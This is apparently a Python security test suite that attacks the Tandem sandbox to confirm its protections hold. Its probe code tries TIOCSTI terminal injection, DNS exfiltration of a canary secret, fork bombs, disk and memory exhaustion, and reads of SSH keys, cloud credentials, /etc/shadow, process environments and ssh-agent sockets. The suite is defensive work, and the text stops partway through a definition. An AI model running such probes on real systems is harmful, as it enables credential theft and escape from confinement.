"""The attacks on Tandem's sandbox, one function each.

Every attack sets up what it needs on the host (canaries, listeners, host processes), runs a
probe inside the sandbox through `tandem sandbox run`, and asserts two things: each step of
the attack failed (the probe prints BLOCKED, never ESCAPED), and the host is as it was (the
Context's check on exit, plus whatever the attack checks itself). Probes are Python run by the
sandbox's python3; they get their arguments as ARGS and report with attempt()/say() from the
prelude in harness.py.

Nothing here sends a packet anywhere but loopback: the DNS and network probes aim only at
listeners this suite started, and the runner puts every attack in a network namespace of its
own unless told otherwise.
"""

import binascii
import ctypes
import os
import pty
import select
import shlex
import shutil
import signal
import socket
import stat
import subprocess
import time

from harness import (ALLOWED_HOST, Broken, Escaped, Skip, TcpRecorder, UnixRecorder, Unmet,
                     libc, proc_cmdlines, tree_digest)

ATTACKS = {}
BOTH = ("bwrap", "container")


class Attack:
    def __init__(self, name, technique, protection, function, backends, timeout):
        self.name = name
        self.technique = technique
        self.protection = protection
        self.function = function
        self.backends = backends
        self.timeout = timeout


def attack(name, technique, protection, backends=BOTH, timeout=40):
    """Registers an attack. `protection` names what must stop it, for the report and for
    whoever removes that protection to see the attack go red."""

    def register(function):
        ATTACKS[name] = Attack(name, technique, protection, function, backends, timeout)
        return function

    return register


def for_backend(backend):
    return [a for a in ATTACKS.values() if backend in a.backends]


# =============================================================================================
# The terminal (case 19)

TIOCSTI_PROBE = r'''
import fcntl, termios
payload = ("touch " + ARGS["escape_file"] + "\n").encode()
fd = next((f for f in (0, 1, 2) if os.isatty(f)), None)
if fd is None:
    try:
        fd = os.open("/dev/tty", os.O_RDWR)
    except OSError as e:
        say("NO_CTTY", e.errno)
if fd is not None:
    say("SID", os.getsid(0), "PGID", os.getpgid(0))
    pushed = 0
    for b in payload:
        try:
            fcntl.ioctl(fd, termios.TIOCSTI, bytes([b]))
            pushed += 1
        except OSError as e:
            say("BLOCKED TIOCSTI", errno.errorcode.get(e.errno))
            break
    say("PUSHED", pushed)
    if pushed:
        say("ESCAPED TIOCSTI pushed", pushed, "bytes into the caller's terminal")
    # CVE-2019-10063: the request number with high bits set, which the kernel truncates to
    # TIOCSTI but a filter comparing all 64 bits would let through.
    c = ctypes.c_char(b"\n")
    attempt("TIOCSTI with high bits set",
            lambda: syscall(16, fd, termios.TIOCSTI | (1 << 32), ctypes.byref(c)))
'''


def run_in_terminal(ctx, line, seconds=30):
    """Types `line` into an interactive bash on a pseudo-terminal, then `exit`, the way a user
    would run Tandem from a shell. Returns everything the terminal showed."""
    env = dict(ctx.env, PS1="$ ", TERM="dumb", HISTFILE=os.path.join(ctx.root, "history"))
    pid, master = pty.fork()
    if pid == 0:
        os.execve("/bin/bash", ["bash", "--norc", "--noprofile", "-i"], env)
    done = f"DONE-$((6*7))-{ctx.mark}"
    seen = b""
    deadline = time.monotonic() + seconds
    os.write(master, (line + f"; echo {done}\n").encode())
    sent_exit = False
    while time.monotonic() < deadline:
        ready, _, _ = select.select([master], [], [], 0.1)
        if ready:
            try:
                chunk = os.read(master, 4096)
            except OSError:
                break
            if not chunk:
                break
            seen += chunk
        if not sent_exit and f"DONE-42-{ctx.mark}".encode() in seen:
            time.sleep(0.3)  # give anything pushed into the input queue time to be read
            os.write(master, b"exit\n")
            sent_exit = True
    else:
        os.kill(pid, signal.SIGKILL)
    os.waitpid(pid, 0)
    os.close(master)
    return seen.decode("utf-8", "replace")


@attack("tiocsti", "push keystrokes into the caller's terminal with TIOCSTI (case 19)",
        "--new-session (no controlling terminal inside); later seccomp on TIOCSTI")
def tiocsti(ctx):
    escape_file = os.path.join(ctx.root, f"ESCAPED_VIA_TIOCSTI-{ctx.mark}")
    ws = ctx.workspace()
    argv = ctx.write_probe(ws, TIOCSTI_PROBE, {"escape_file": escape_file})
    out, err, code = (os.path.join(ctx.root, f"tiocsti.{n}") for n in ("out", "err", "code"))
    line = shlex.join(ctx.command(argv, ws)) + f" > {out} 2> {err}; echo $? > {code}"
    shown = run_in_terminal(ctx, line)
    time.sleep(0.3)
    with open(out) as o, open(err) as e, open(code) as c:
        result = ctx.accept(o.read(), int(c.read().strip() or -1), e.read())
    if os.path.exists(escape_file):
        raise Escaped(f"a command pushed into the terminal ran on the host: {escape_file} "
                      f"exists.\nTerminal:\n{shown[-2000:]}\n{result.describe()}")
    stdout = result.stdout
    if "NO_CTTY" not in stdout and not ("BLOCKED" in stdout and "PUSHED 0" in stdout):
        raise Escaped(f"the sandbox kept a terminal it could push input into:\n"
                      f"{result.describe()}")
    ctx.require_blocked(result, "TIOCSTI")


TIOCLINUX_PROBE = r'''
import fcntl
TIOCLINUX = 0x541C
consoles = ["/dev/tty0", "/dev/tty1", "/dev/tty2", "/dev/tty63", "/dev/console", "/dev/vcs",
            "/dev/vcsa", "/dev/vcs1", "/dev/vcsu"]
for device in consoles + ["/dev/tty"]:
    try:
        fd = os.open(device, os.O_RDONLY | os.O_NOCTTY | os.O_NONBLOCK)
    except OSError as e:
        say("BLOCKED open", device, "-", errno.errorcode.get(e.errno))
        continue
    if device in consoles:
        say("ESCAPED open", device, "- a virtual console of the host is reachable")
    # Read-only subcodes (shift state, mouse reporting): proof of access, no effect.
    for sub in (6, 7):
        attempt(f"TIOCLINUX {sub} on {device}",
                lambda: fcntl.ioctl(fd, TIOCLINUX, bytes([sub]) + bytes(7)))
    os.close(fd)
'''


@attack("tioclinux", "reach a virtual console and use TIOCLINUX on it (case 19, bwrap#150)",
        "--dev /dev (no console devices inside); later seccomp on TIOCLINUX")
def tioclinux(ctx):
    ws = ctx.workspace()
    result = ctx.probe(ws, TIOCLINUX_PROBE)
    ctx.require_blocked(result, "virtual consoles")


# =============================================================================================
# The network: DNS (case 21), loopback services, raw sockets

DNS_PROBE = r'''
import binascii
secret = read_text(".env").strip()
label = binascii.hexlify(secret.encode()).decode()
names = [f"{label}.exfil.test", f"{label}.{ARGS['allowed']}.exfil.test",
         f"{ARGS['allowed']}.{label}.test"]

def query(name):
    q = struct.pack(">HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0)
    q += b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0"
    return q + struct.pack(">HH", 1, 1)

def udp(server, port, name):
    family = socket.AF_INET6 if ":" in server else socket.AF_INET
    with socket.socket(family, socket.SOCK_DGRAM) as s:
        s.settimeout(1.0)
        s.connect((server, port))  # connected, so that an unreachable port is reported at once
        s.send(query(name))
        return s.recv(512)[:4]

def tcp(server, port, name):
    family = socket.AF_INET6 if ":" in server else socket.AF_INET
    with socket.socket(family, socket.SOCK_STREAM) as s:
        s.settimeout(1.0)
        s.connect((server, port))
        p = query(name)
        s.sendall(struct.pack(">H", len(p)) + p)
        return s.recv(512)[:4]

# The libc resolver only where the sandbox's resolver is on loopback: this suite never sends
# a query anywhere else, even when a protection is removed.
try:
    servers = [l.split()[1] for l in read_text("/etc/resolv.conf").splitlines()
               if l.startswith("nameserver") and len(l.split()) > 1]
except OSError:
    servers = []
libc_safe = all(s.startswith("127.") or s == "::1" for s in servers)
for name in names:
    if libc_safe:
        attempt("getaddrinfo " + name[:40], lambda: socket.getaddrinfo(name, 443))
    else:
        say("SKIPPED getaddrinfo: the sandbox's resolver", servers, "is not on loopback")
    for server, port in ARGS["targets"]:
        attempt(f"DNS over UDP to {server}:{port}", lambda: udp(server, port, name))
        attempt(f"DNS over TCP to {server}:{port}", lambda: tcp(server, port, name))
'''


@attack("dns_exfiltration", "leak a secret in DNS query names: libc resolver, raw UDP and "
        "TCP 53 to a logging resolver on the host's loopback (case 21)",
        "no network namespace access (--unshare-net), no resolver inside")
def dns_exfiltration(ctx):
    token = f"TOKEN=CANARYDNS{ctx.digits}"
    ws = ctx.workspace(files={".env": token + "\n"})
    targets = {("127.0.0.1", 53), ("127.0.0.1", ctx.dns.port), ("127.0.0.53", 53), ("::1", 53)}
    result = ctx.probe(ws, DNS_PROBE, {"allowed": ALLOWED_HOST, "targets": sorted(targets)},
                       guard=90)
    label = binascii.hexlify(token.encode()).decode()
    leaked = [n for n in ctx.dns.names() if n and (label in n or "exfil.test" in n)]
    if leaked:
        raise Escaped(f"the host's resolver received {len(leaked)} query name(s) carrying the "
                      f"secret, e.g. {leaked[0]}")
    if result.lines("RESOLVED") or any("DNS over" in line for line in result.escapes()):
        raise Escaped(f"a DNS server answered the sandbox:\n{result.describe()}")
    ctx.require_blocked(result, "DNS exfiltration")


LOOPBACK_PROBE = r'''
def tcp(address, port):
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    with socket.socket(family, socket.SOCK_STREAM) as s:
        s.settimeout(2.0)
        s.connect((address, port))
        s.sendall(("EXFIL " + MARK + "\n").encode())
        return "connected and sent"

def udp(address, port):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.connect((address, port))
        s.send(("EXFIL " + MARK).encode())
        # A connected socket learns of an unreachable port; a listener answers with nothing.
        s.settimeout(0.5)
        try:
            s.recv(16)
        except socket.timeout:
            return "sent, no refusal"
        return "answered"

for address, port in ARGS["tcp"]:
    attempt(f"TCP to {address}:{port}", lambda: tcp(address, port))
for address, port in ARGS["udp"]:
    attempt(f"UDP to {address}:{port}", lambda: udp(address, port))
'''


@attack("loopback_services", "reach services on the host's loopback (127.0.0.1 and ::1, TCP "
        "and UDP) and send them data", "--unshare-net (the sandbox has a loopback of its own)")
def loopback_services(ctx):
    ws = ctx.workspace()
    result = ctx.probe(ws, LOOPBACK_PROBE, {
        "tcp": [["127.0.0.1", ctx.tcp4.port], ["::1", ctx.tcp6.port]],
        "udp": [["127.0.0.1", ctx.udp4.port]]})
    ctx.require_blocked(result, "loopback services")
    ctx.require_silent(ctx.tcp4, ctx.tcp6, ctx.udp4)


@attack("host_address", "reach a host service through the host's own non-loopback address",
        "--unshare-net")
def host_address(ctx):
    address = os.environ.get("TANDEM_ATTACK_HOST_ADDRESS")
    if not address:
        raise Skip("the host has no non-loopback IPv4 address assigned")
    listener = ctx.add_recorder(TcpRecorder(f"tcp {address}", address))
    ws = ctx.workspace()
    result = ctx.probe(ws, LOOPBACK_PROBE, {"tcp": [[address, listener.port]], "udp": []})
    ctx.require_blocked(result, "the host's address")
    ctx.require_silent(listener)


RAW_SOCKET_PROBE = r'''
ETH_P_ALL = socket.htons(3)
kinds = [
    ("AF_PACKET SOCK_RAW", socket.AF_PACKET, socket.SOCK_RAW, ETH_P_ALL),
    ("AF_PACKET SOCK_DGRAM", socket.AF_PACKET, socket.SOCK_DGRAM, ETH_P_ALL),
    ("AF_INET SOCK_RAW ICMP", socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP),
    ("AF_INET SOCK_RAW IPPROTO_RAW", socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW),
    ("AF_INET SOCK_RAW TCP", socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP),
    ("AF_INET6 SOCK_RAW ICMPV6", socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6),
]
def create(family, kind, proto):
    socket.socket(family, kind, proto).close()
    return "created"
for name, family, kind, proto in kinds:
    attempt("socket " + name, lambda: create(family, kind, proto))
'''


@attack("raw_sockets", "open raw IP and packet sockets (sniff or forge traffic)",
        "no CAP_NET_RAW (--cap-drop ALL, non-root uid); later seccomp on raw/packet sockets")
def raw_sockets(ctx):
    ws = ctx.workspace()
    result = ctx.probe(ws, RAW_SOCKET_PROBE)
    ctx.require_blocked(result, "raw sockets")


# =============================================================================================
# Processes, time and resources (case 22)


@attack("escaping_children", "leave background, setsid, nohup and double-forked children "
        "running past the timeout (case 22 A)",
        "the command's whole process tree dies on timeout (pid namespace, --die-with-parent)",
        timeout=40)
def escaping_children(ctx):
    ws = ctx.workspace()
    d, m = ctx.digits, ctx.mark
    script = f"""echo start
( sleep 3.{d}1; touch ./LATE_A ) &
setsid sh -c 'sleep 3.{d}2; touch ./LATE_B' &
nohup sh -c 'while :; do :; done' {m} >/dev/null 2>&1 &
sh -c 'sleep 1234.{d}3 </dev/null >/dev/null 2>&1 &'
exec sleep 1234.{d}4
"""
    result = ctx.run(["sh", "-c", script], ws, timeout=2)
    if not result.get("timed_out"):
        raise Escaped(f"the command did not time out:\n{result.describe()}")
    # Case 22 A: the command's own time, from start to the kill, is within the timeout and a
    # small grace. Starting and stopping the sandbox around it may take longer on a busy
    # machine, and is bounded separately.
    command_seconds = result.get("duration_ms", 0) / 1000
    if command_seconds > 2 + 2 or result.seconds > 2 + 2 + 4:
        raise Escaped(f"the call took {command_seconds:.1f} s ({result.seconds:.1f} s in all) "
                      f"for a 2 s timeout")
    ctx.require_no_leftovers(within=2.0)
    time.sleep(2.5)  # past the moment the escaped children would have written
    for name in ("LATE_A", "LATE_B"):
        if os.path.exists(os.path.join(ws, name)):
            raise Escaped(f"a child outlived the timeout and wrote {name} in the workspace")
    if result.get("limit") != "wall_time":
        raise Unmet(f"the tree died, but a timeout must be reported as limit=wall_time:\n"
                    f"{result.describe()}")


@attack("stdout_holder", "exit at once while a background child keeps stdout open (case 22 B)",
        "the runner stops reading when the command ends and kills what is left", timeout=40)
def stdout_holder(ctx):
    ws = ctx.workspace()
    script = f"( sleep 20.{ctx.digits}; echo late ) &\nexit 0\n"
    result = ctx.run(["sh", "-c", script], ws, timeout=10)
    if result.seconds > 3:
        raise Escaped(f"the call waited {result.seconds:.1f} s on a pipe held by a child")
    if "late" in result.stdout:
        raise Escaped("the child's late output was collected")
    ctx.require_no_leftovers(within=2.0)


FORK_PROBE = r'''
import signal
children, failure = [], None
for i in range(ARGS["attempts"]):
    try:
        pid = os.fork()
    except OSError as e:
        failure = errno.errorcode.get(e.errno)
        break
    if pid == 0:
        os.close(1)
        os.close(2)
        time.sleep(ARGS["hold"])
        os._exit(0)
    children.append(pid)
say("FORKED", len(children), "then", failure)
if failure is None:
    say("ESCAPED forked", len(children), "processes without hitting a limit")
else:
    say("BLOCKED fork after", len(children), "processes:", failure)
'''


@attack("fork_bomb", "create processes without bound (case 22 C; a bounded bomb so that the "
        "host survives a missing limit)",
        "the pids cgroup at limits.processes (RLIMIT_NPROC does not bind uid 0)", timeout=40)
def fork_bomb(ctx):
    limit = 64
    config = ctx.policy(limits={"processes": limit, "wallTime": "20s"})
    ws = ctx.workspace()
    # More than the product's default of 512, so that the default cannot pass for the policy.
    result = ctx.probe(ws, FORK_PROBE, {"attempts": 600, "hold": 3}, config=config,
                       timeout=15, completes=False)
    forked = [line for line in result.stdout.splitlines() if line.startswith("FORKED")]
    if not forked:
        raise Broken(f"the probe did not report:\n{result.describe()}")
    count = int(forked[0].split()[1])
    if count >= limit:
        raise Escaped(f"{count} processes were started under a limit of {limit} processes:\n"
                      f"{result.describe()}")
    ctx.require_blocked(result, "fork bomb")
    ctx.require_no_leftovers(within=3.0)


DISK_PROBE = r'''
chunk = b"\0" * (1 << 20)
def fill(path, most):
    written = 0
    try:
        with open(path, "wb") as f:
            while written < most:
                f.write(chunk)
                f.flush()
                written += len(chunk)
            os.fsync(f.fileno())
    except OSError as e:
        return written, errno.errorcode.get(e.errno)
    return written, None
total = 0
for path in ARGS["paths"]:
    written, failure = fill(path, ARGS["most"])
    total += written
    say("WROTE", path, written >> 20, "MiB then", failure)
    try:
        os.unlink(path)
    except OSError:
        pass
say("TOTAL", total)
'''


@attack("disk_fill", "fill the disk from the workspace, /tmp and home (case 22 D; at most "
        "3 x 96 MiB written)", "limits.disk: a cap on the space each writable place may use",
        timeout=60)
def disk_fill(ctx):
    cap_mib, most_mib = 16, 96
    usage = shutil.disk_usage(ctx.root)
    if usage.free < 4 * most_mib << 20 or usage.free < 2 << 30:
        raise Skip(f"only {usage.free >> 20} MiB free where the workspace lives")
    config = ctx.policy(limits={"disk": f"{cap_mib}M", "wallTime": "40s"})
    ws = ctx.workspace()
    paths = ["big-workspace", "/tmp/big-tmp", "/tmp/home/big-home"]
    result = ctx.probe(ws, DISK_PROBE, {"paths": paths, "most": most_mib << 20}, config=config,
                       timeout=40, completes=False)
    written = [line for line in result.stdout.splitlines() if line.startswith("WROTE")]
    left = sum(os.path.getsize(os.path.join(ws, n)) for n in os.listdir(ws)
               if n.startswith("big"))
    most = (cap_mib + 2) << 20
    if left > most:
        raise Escaped(f"{left >> 20} MiB were left in the workspace on the host under a cap of "
                      f"{cap_mib} MiB")
    # The cap is on space in use (case 22 D): no place the sandbox can write may hold more
    # than the cap at any moment, so each fill must stop there (EFBIG, ENOSPC) or the command
    # must end on the disk limit. Bytes written and deleted again are not summed.
    if result.get("limit") == "disk":
        return
    over = [line for line in written if int(line.split()[2]) > cap_mib + 2]
    if over or not written:
        raise Escaped(f"a fill went past the {cap_mib} MiB cap:\n  " + "\n  ".join(written)
                      + f"\n{result.describe()}")


@attack("output_flood", "flood stdout with 100 MB (case 22 E)",
        "limits.output: output kept up to the cap, truncation flagged, memory bounded",
        timeout=40)
def output_flood(ctx):
    cap = 256 << 10
    config = ctx.policy(limits={"output": "256K"})
    ws = ctx.workspace()
    baseline = ctx.run(["true"], ws, config=config)
    result = ctx.run(["sh", "-c", "yes 0123456789abcdef | head -c 100000000"], ws,
                     config=config, timeout=20)
    kept = len(result.stdout.encode())
    problems = []
    if kept > cap + 200:
        problems.append(f"{kept} bytes of stdout were kept under a cap of {cap}")
    if not result.get("stdout_truncated"):
        problems.append("the result does not say stdout_truncated=true")
    if result.get("stdout_bytes", 0) < 100000000:
        problems.append(f"stdout_bytes is {result.get('stdout_bytes')}, not the 100000000 "
                        "bytes the command wrote")
    grown = result.max_rss_kib - baseline.max_rss_kib
    if grown > 32 << 10:
        problems.append(f"tandem grew by {grown >> 10} MiB while reading the flood")
    if problems:
        raise Unmet("; ".join(problems) + f"\n{result.describe(400)}")


MEMORY_PROBE = r'''
size, step = ARGS["bytes"], 64 << 20
blocks = []
for done in range(0, size, step):
    block = bytearray(step)
    for i in range(0, step, 4096):
        block[i] = 1
    blocks.append(block)
    say("HOLDING", (done + step) >> 20, "MiB")
say("ESCAPED allocated and touched", size >> 20, "MiB")
'''


@attack("memory_hog", "allocate and touch 2 GiB against a 256 MiB limit (case 22 F)",
        "limits.memory (memory cgroup), reported as limit=memory", timeout=60)
def memory_hog(ctx):
    with open("/proc/meminfo") as f:
        available = int(next(l for l in f if l.startswith("MemAvailable")).split()[1]) << 10
    if available < 6 << 30:
        raise Skip(f"only {available >> 20} MiB available; the hog needs 2 GiB to be safe")
    config = ctx.policy(limits={"memory": "256M", "wallTime": "40s"})
    ws = ctx.workspace()
    result = ctx.probe(ws, MEMORY_PROBE, {"bytes": 2 << 30}, config=config, timeout=40,
                       completes=False)
    ctx.require_blocked_or_limited(result, "memory", "memory hog")


CPU_PROBE = r'''
start = time.process_time()
while time.process_time() - start < ARGS["seconds"]:
    pass
say("ESCAPED burned", ARGS["seconds"], "s of CPU")
'''


@attack("cpu_burner", "burn CPU past a 2 s cpuTime limit (wall time 30 s)",
        "limits.cpuTime (RLIMIT_CPU or cpuacct), reported as limit=cpu_time", timeout=60)
def cpu_burner(ctx):
    config = ctx.policy(limits={"cpuTime": "2s", "wallTime": "30s"})
    ws = ctx.workspace()
    result = ctx.probe(ws, CPU_PROBE, {"seconds": 6}, config=config, timeout=30,
                       completes=False)
    ctx.require_blocked_or_limited(result, "cpu_time", "CPU burner")
    # 2 s of CPU may take longer on a busy machine; far longer means the limit did not hold.
    command_seconds = result.get("duration_ms", 0) / 1000
    if command_seconds > 10:
        raise Escaped(f"the burner ran {command_seconds:.1f} s under a 2 s CPU limit")


@attack("product_killed", "keep sandboxed processes running after the product is killed "
        "(SIGKILL, then SIGTERM)", "--die-with-parent and the pid namespace", timeout=40)
def product_killed(ctx):
    ws = ctx.workspace()
    for number, sig in ((1, signal.SIGKILL), (2, signal.SIGTERM)):
        marker = f"30.{ctx.digits}{number}"
        started, late = os.path.join(ws, f"STARTED_{number}"), f"LATE_{number}"
        # Nothing can tidy up after a SIGKILL at once: its empty cgroup is not held against it.
        process = ctx.start(["sh", "-c", f"touch STARTED_{number}; sleep {marker}; touch {late}"],
                            ws, tidy=sig != signal.SIGKILL)
        deadline = time.monotonic() + 10
        while not os.path.exists(started):
            if time.monotonic() > deadline:
                raise Broken("the sandboxed command never started")
            time.sleep(0.05)
        os.kill(process.pid, sig)
        process.wait(timeout=10)
        ctx.require_no_leftovers(within=3.0, markers=[marker])
        if os.path.exists(os.path.join(ws, late)):
            raise Escaped(f"the command went on after tandem was killed by {sig.name}")


# =============================================================================================
# Credentials: environment, files, /proc, agent and desktop sockets (case 24)

ENVIRONMENT_PROBE = r'''
say("ENV", json.dumps(dict(os.environ)))
for name in ("SSH_AUTH_SOCK", "DISPLAY", "WAYLAND_DISPLAY", "DBUS_SESSION_BUS_ADDRESS",
             "XAUTHORITY", "GPG_AGENT_INFO", "KRB5CCNAME", "DOCKER_HOST"):
    if name in os.environ:
        say("ESCAPED", name, "is set inside:", os.environ[name])
    else:
        say("BLOCKED", name, "is not set inside")
pids = [p for p in os.listdir("/proc") if p.isdigit()]
say("PIDS", len(pids))
for pid in pids:
    for part in ("environ", "cmdline"):
        try:
            say("PROC", pid, part, read_text(f"/proc/{pid}/{part}", 65536).replace("\0", " "))
        except OSError as e:
            say("BLOCKED read /proc", pid, part, "-", errno.errorcode.get(e.errno))
if len(pids) > 10:
    say("ESCAPED", len(pids), "processes are visible: the host's, not only the sandbox's")
time.sleep(1.0)  # the host looks at every command line meanwhile
'''


@attack("environment_credentials", "read API keys and tokens from the environment, "
        "/proc/self/environ, /proc/1/environ and every visible process (case 24)",
        "--clearenv with an allowlist, bwrap started with an empty environment, pid namespace")
def environment_credentials(ctx):
    ws = ctx.workspace()
    seen = []

    def watch_command_lines(pid):
        # While the product runs, no host process may carry a secret in its arguments.
        deadline = time.monotonic() + 3
        while time.monotonic() < deadline:
            for other, line in proc_cmdlines().items():
                if ctx.secret in line:
                    seen.append(f"{other}: {line[:200]}")
            time.sleep(0.1)

    extra = {"SSH_AUTH_SOCK": os.path.join(ctx.root, "agent.sock"), "DISPLAY": ":93",
             "WAYLAND_DISPLAY": "wayland-9", "XAUTHORITY": os.path.join(ctx.home, ".Xauthority"),
             "DBUS_SESSION_BUS_ADDRESS": f"unix:path={ctx.root}/bus",
             "KRB5CCNAME": f"FILE:{ctx.root}/krb5cc", "DOCKER_HOST": f"unix://{ctx.root}/d.sock"}
    if ctx.backend == "container":
        extra.pop("DOCKER_HOST")  # the container backend may need the real one
    result = ctx.probe(ws, ENVIRONMENT_PROBE, extra_env=extra, during=watch_command_lines)
    if seen:
        raise Escaped("a secret is visible in a host command line while the sandbox runs:\n  "
                      + "\n  ".join(seen))
    ctx.require_blocked(result, "environment")


FILES_PROBE = r'''
for path in ARGS["files"]:
    attempt("read " + path, lambda: read_text(path))
for path in ARGS["folders"]:
    attempt("list " + path, lambda: os.listdir(path) or (_ for _ in ()).throw(
        FileNotFoundError("empty")))
# Anything named like a key anywhere in reach, the way an agent would look.
for top in ("/", os.path.expanduser("~")):
    for root, dirs, files in os.walk(top):
        dirs[:] = [d for d in dirs if os.path.join(root, d) not in ("/proc", "/sys", "/usr",
                                                                    "/workspace", "/dev")]
        for name in files:
            if name.startswith("id_") or name in (".netrc", "hosts.yml", "credentials",
                                                  ".git-credentials", "shadow"):
                path = os.path.join(root, name)
                attempt("read found " + path, lambda: read_text(path))
'''


@attack("home_credentials", "read credential files: the user's ~/.ssh, ~/.netrc, gh, aws, "
        "docker and git credentials, Tandem's own settings, /root, /home, /etc/shadow (case 24)",
        "only the workspace and system folders are bound; HOME is an empty folder inside")
def home_credentials(ctx):
    s = ctx.secret
    planted = {"/root/.ssh/id_rsa": s, "/root/.netrc": s, "/home/alice/.ssh/id_ed25519": s,
               "/home/alice/.aws/credentials": s}
    for top in ("/root", "/home"):
        ctx.mask(top)
    for path, text in planted.items():
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "w") as f:
            f.write(f"secret {text}\n")
    shadow = os.path.join(ctx.root, "shadow")
    with open(shadow, "w") as f:
        f.write(f"root:$6${s}:19000:0:99999:7:::\n")
    ctx.bind_file(shadow, "/etc/shadow")
    home_files = [".ssh/id_ed25519", ".ssh/config", ".netrc", ".git-credentials",
                  ".config/gh/hosts.yml", ".aws/credentials", ".docker/config.json",
                  ".config/tandem/settings.json", ".local/share/tandem/audit.jsonl",
                  ".bash_history"]
    files = [os.path.join(ctx.home, f) for f in home_files]
    files += ["~/" + f for f in home_files] + list(planted) + ["/etc/shadow", "/etc/gshadow"]
    files = [os.path.expanduser(f) if f.startswith("~/") else f for f in files]
    folders = ["/root", "/home", ctx.home, os.path.join(ctx.home, ".ssh"), ctx.data_dir]
    ws = ctx.workspace()
    result = ctx.probe(ws, FILES_PROBE, {"files": files, "folders": folders})
    ctx.require_blocked(result, "credential files")


HOST_PROC_PROBE = r'''
host = ARGS["pid"]
for part in ("environ", "cmdline", "status", "root/etc/hostname"):
    attempt(f"read /proc/{host}/{part} of a host process",
            lambda: read_text(f"/proc/{host}/{part}"))
for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
    for part in ("environ", "cmdline"):
        try:
            text = read_text(f"/proc/{pid}/{part}", 65536).replace("\0", " ")
        except OSError:
            continue
        say("PROC", pid, part, text[:500])
        if ARGS["host_marker"] in text:
            say("ESCAPED the host process is visible as pid", pid)
'''


@attack("host_proc", "read another host process's command line and environment through /proc",
        "--unshare-pid with a fresh /proc")
def host_proc(ctx):
    host_marker = f"hostproc{ctx.digits}"
    env = dict(os.environ, TANDEM_HOST_SECRET=ctx.secret)
    process = ctx.start_host_process(
        ["python3", "-c", "import time; time.sleep(60)", host_marker, f"--token={ctx.secret}"],
        env=env)
    ws = ctx.workspace()
    result = ctx.probe(ws, HOST_PROC_PROBE, {"pid": process.pid, "host_marker": host_marker})
    ctx.require_blocked(result, "host /proc")


SOCKET_PROBE = r'''
def unix(path, payload):
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
        s.settimeout(2.0)
        s.connect(path)
        s.sendall(payload)
        try:
            return s.recv(4096)
        except socket.timeout:
            return b"connected"

for path, payload in ARGS["sockets"]:
    shown = path.replace("\0", "@")
    attempt("connect " + shown, lambda: unix(path, payload.encode("latin-1")))
for name in ARGS.get("env", []):
    value = os.environ.get(name)
    if value:
        say("ESCAPED", name, "is set inside:", value)
    else:
        say("BLOCKED", name, "is not set inside")
for command in ARGS.get("commands", []):
    try:
        done = subprocess.run(command, capture_output=True, text=True, timeout=5)
        say("RAN", command[0], "exit", done.returncode, done.stdout[:300], done.stderr[:300])
        if done.returncode == 0:
            say("ESCAPED", " ".join(command), "worked")
        else:
            say("BLOCKED", " ".join(command), "exit", done.returncode)
    except (OSError, subprocess.TimeoutExpired) as e:
        say("BLOCKED", command[0], "-", type(e).__name__)
'''


@attack("ssh_agent", "use the user's ssh-agent through SSH_AUTH_SOCK (case 24)",
        "--clearenv, and the agent's socket is not mounted")
def ssh_agent(ctx):
    for tool in ("ssh-agent", "ssh-add", "ssh-keygen"):
        if not shutil.which(tool):
            raise Skip(f"{tool} is not installed")
    sock = os.path.join(ctx.root, "ssh", "agent.sock")
    os.makedirs(os.path.dirname(sock))
    agent = ctx.start_host_process(["ssh-agent", "-D", "-a", sock])
    key = os.path.join(ctx.root, "ssh", "id_canary")
    subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", ctx.secret, "-f", key],
                   check=True, timeout=30)
    deadline = time.monotonic() + 5
    while not os.path.exists(sock):
        if agent.poll() is not None or time.monotonic() > deadline:
            raise Broken("ssh-agent did not start")
        time.sleep(0.05)
    subprocess.run(["ssh-add", "-q", key], env=dict(os.environ, SSH_AUTH_SOCK=sock), check=True,
                   timeout=30, capture_output=True)
    request = "\0\0\0\x01\x0b"  # SSH_AGENTC_REQUEST_IDENTITIES
    ws = ctx.workspace()
    result = ctx.probe(ws, SOCKET_PROBE, {"sockets": [[sock, request]], "env": ["SSH_AUTH_SOCK"],
                                          "commands": [["ssh-add", "-l"]]},
                       extra_env={"SSH_AUTH_SOCK": sock})
    ctx.require_blocked(result, "ssh-agent")


@attack("dbus_session", "talk to the D-Bus session bus (secret service) by its socket path or "
        "abstract name (case 24)", "--clearenv, socket not mounted, --unshare-net for the "
        "abstract name")
def dbus_session(ctx):
    path = ctx.add_recorder(UnixRecorder("D-Bus socket", os.path.join(ctx.root, "dbus", "bus")))
    abstract = ctx.add_recorder(UnixRecorder("D-Bus abstract socket",
                                             f"\0/tmp/dbus-{ctx.mark}"))
    auth = "\0AUTH EXTERNAL 30\r\n"
    ws = ctx.workspace()
    commands = [["dbus-send", "--session", "--print-reply", "--dest=org.freedesktop.secrets",
                 "/org/freedesktop/secrets", "org.freedesktop.DBus.Introspectable.Introspect"]]
    address = f"unix:path={path.path}"
    result = ctx.probe(ws, SOCKET_PROBE, {
        "sockets": [[path.path, auth], [abstract.path, auth]],
        "env": ["DBUS_SESSION_BUS_ADDRESS"], "commands": commands},
        extra_env={"DBUS_SESSION_BUS_ADDRESS": address})
    ctx.require_blocked(result, "D-Bus")
    ctx.require_silent(path, abstract)


def stop_x_server(server, number):
    """Ends our Xvfb so that it removes its lock file; removes the lock if it did not."""
    server.terminate()
    try:
        server.wait(timeout=5)
    except subprocess.TimeoutExpired:
        server.kill()
        server.wait(timeout=5)
    lock = f"/tmp/.X{number}-lock"
    try:
        with open(lock) as f:
            if f.read().strip() == str(server.pid):
                os.unlink(lock)
    except OSError:
        pass


def free_display():
    for number in range(90, 140):
        if not os.path.exists(f"/tmp/.X{number}-lock") and \
                not os.path.exists(f"/tmp/.X11-unix/X{number}"):
            return number
    raise Skip("no free X display number between 90 and 139")


@attack("x11_display", "connect to the user's X display (keystrokes, screenshots) through "
        "/tmp/.X11-unix and the abstract socket (case 24)",
